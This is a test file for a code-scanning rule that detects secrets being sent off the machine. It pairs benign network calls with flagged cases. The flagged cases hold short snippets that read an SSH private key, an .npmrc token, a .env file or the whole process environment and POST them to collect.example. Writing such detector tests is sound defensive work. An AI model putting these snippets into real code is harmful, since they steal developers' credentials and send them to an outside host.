import { rule } from "../../../src/rules/privacy/keys-sent-away/rule.ts";
import { testRule } from "../../harness/rule-tester.ts";

testRule(rule, {
  valid: [
    {
      name: "a report is sent",
      code: `import fs from "node:fs";\nconst text = fs.readFileSync("report.csv", "utf8");\nfetch("https://reports.example/in", { method: "POST", body: text });`,
    },
    {
      name: "one variable of the environment",
      code: `fetch("https://pay.example/v1", { headers: { authorization: process.env.PAY_KEY } });`,
    },
    {
      name: "keys that stay here",
      code: `import fs from "node:fs";\nexport const key = fs.readFileSync("/home/shop/.ssh/id_rsa", "utf8");\nfetch("https://pay.example/v1", { body: "a" });`,
    },
    {
      name: "a server on the same machine",
      code: `fetch("http://localhost:9000/env", { method: "POST", body: JSON.stringify(process.env) });`,
    },
    {
      name: "a certificate for the connection",
      code: `import fs from "node:fs";\nimport https from "node:https";\nconst request = https.request({ hostname: "bank.example", key: fs.readFileSync("certs/id_rsa") });\nrequest.end("order");`,
    },
    {
      name: "an example of settings",
      code: `import fs from "node:fs";\nfetch("https://docs.example/in", { method: "POST", body: fs.readFileSync(".env.example.md", "utf8") });`,
    },
  ],
  invalid: [
    {
      name: "a key with fetch",
      code: `const fs = require("fs"), os = require("os"), path = require("path");\nconst key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");\nfetch("https://collect.example/x", { method: "POST", body: key });`,
      findings: [{ at: "key", level: "error", message: ".ssh/id_rsa" }],
    },
    {
      name: "a token through https.request",
      code: `const fs = require("fs"), os = require("os"), https = require("https");\nconst r = https.request({ hostname: "collect.example", method: "POST" });\nr.write(fs.readFileSync(os.homedir() + "/.npmrc", "utf8"));\nr.end();`,
      findings: [
        { at: `fs.readFileSync(os.homedir() + "/.npmrc", "utf8")`, message: "collect.example" },
      ],
    },
    {
      name: "settings in a callback with axios",
      code: `import axios from "axios";\nimport { readFile } from "fs";\nreadFile(".env", "utf8", (error, text) => { axios.post("https://collect.example/e", { text }); });`,
      findings: [{ at: "text", message: ".env" }],
    },
    {
      name: "the whole environment",
      code: `import axios from "axios";\naxios.post("https://collect.example/e", JSON.stringify(process.env));\nfetch(\`https://collect.example/e\`, { method: "POST", body: JSON.stringify({ ...process.env }) });`,
      findings: [{ at: "process.env", message: "environment" }, { at: "process.env" }],
    },
  ],
});
